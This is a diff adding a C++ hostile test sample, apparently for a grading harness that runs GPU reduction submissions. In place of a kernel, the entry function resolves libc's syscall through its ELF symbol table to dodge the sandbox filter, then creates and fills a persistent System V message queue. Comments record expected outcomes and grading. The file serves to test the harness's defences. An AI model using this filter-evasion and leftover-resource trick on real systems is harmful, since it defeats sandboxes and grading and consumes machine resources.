@@ -1,0 +1,92 @@
+// expect: gpu=unwritten-output|crash emu=unwritten-output  args=--sizes=1000,--blocks=256 -- Has no kernel: makes a System V message queue under a key of its own and fills it (16 KiB of kernel memory a queue, 32000 queues a machine, no cap of the process counts it), and leaves it: in single mode it outlived the grading.  The emulator's filter answers msgget with ENOSYS (harness/run/guard.c), as shmget.  Graded by single-hostile.sh, which checks that no queue is left.  Not yet on a GPU, whose driver may need System V objects.
+// mistake: no kernel; a System V message queue left on the machine
+#include <cstddef>
+#include <cstdint>
+#include <cstdio>
+#include <cstring>
+#include <elf.h>
+
+// libc's own entry for `name`: the image holding fputs begins with an ELF
+// header at a page boundary below it; its dynamic section leads to the
+// symbol and string tables.  Nothing refused is named in this object.
+static void *from_libc_table(const char *name)
+{
+    uintptr_t at = (uintptr_t)(void *)&fputs & ~(uintptr_t)0xfff;
+    for (; std::memcmp((const void *)at, ELFMAG, SELFMAG) != 0; at -= 0x1000) {
+    }
+    const Elf64_Ehdr *head = (const Elf64_Ehdr *)at;
+    const Elf64_Dyn *dyn = nullptr;
+    for (int i = 0; i < head->e_phnum; i++) {
+        const Elf64_Phdr *seg = (const Elf64_Phdr *)(at + head->e_phoff) + i;
+        if (seg->p_type == PT_DYNAMIC)
+            dyn = (const Elf64_Dyn *)(at + seg->p_vaddr);
+    }
+    const Elf64_Sym *table = nullptr;
+    const char *text = nullptr;
+    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
+        uintptr_t p = dyn->d_un.d_ptr;
+        if (p < at)
+            p += at;
+        if (dyn->d_tag == DT_SYMTAB)
+            table = (const Elf64_Sym *)p;
+        else if (dyn->d_tag == DT_STRTAB)
+            text = (const char *)p;
+    }
+    if (!table || !text)
+        return nullptr;
+    for (const Elf64_Sym *s = table + 1; (const char *)s < text; s++)
+        if (s->st_shndx != SHN_UNDEF && std::strcmp(text + s->st_name, name) == 0)
+            return (void *)(at + s->st_value);
+    return nullptr;
+}
+
+typedef long (*sys_fn)(long, ...);
+#include <cerrno>
+static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
+{
+    static sys_fn call = (sys_fn)from_libc_table("syscall");
+    return call ? call(nr, a, b, c, d, e, f) : -1;
+}
+#include <sys/syscall.h>
+#include <sys/mman.h>
+#include <sys/ipc.h>
+#include <sys/resource.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <fcntl.h>
+#include <unistd.h>
+#include <sched.h>
+#include <ctime>
+
+// A System V message queue under a key of its own, filled: kernel memory
+// no cap of the process counts, which outlives the process.
+static void attack()
+{
+    long id = sys(SYS_msgget, 0x52473250L, IPC_CREAT | 0600);
+    struct { long type; char text[4096]; } m;
+    m.type = 1;
+    std::memset(m.text, 'q', sizeof m.text);
+    int sent = 0;
+    while (id >= 0 && sent < 4 && sys(SYS_msgsnd, id, (long)&m, (long)sizeof m.text, IPC_NOWAIT) == 0)
+        sent++;
+    printf("MSGQ id=%ld sent=%d: %s\n", id, sent, id >= 0 ? "made, left" : "refused");
+    fflush(stdout);
+}
+
+template <typename T>
+void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
+{
+    (void)d_input, (void)d_result, (void)n, (void)block;
+    static bool done;
+    if (!done) {
+        done = true;
+        attack();
+    }
+}
+
+template <typename T>
+void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
+{
+    sum_atomic(d_input, d_result, n, block);
+}
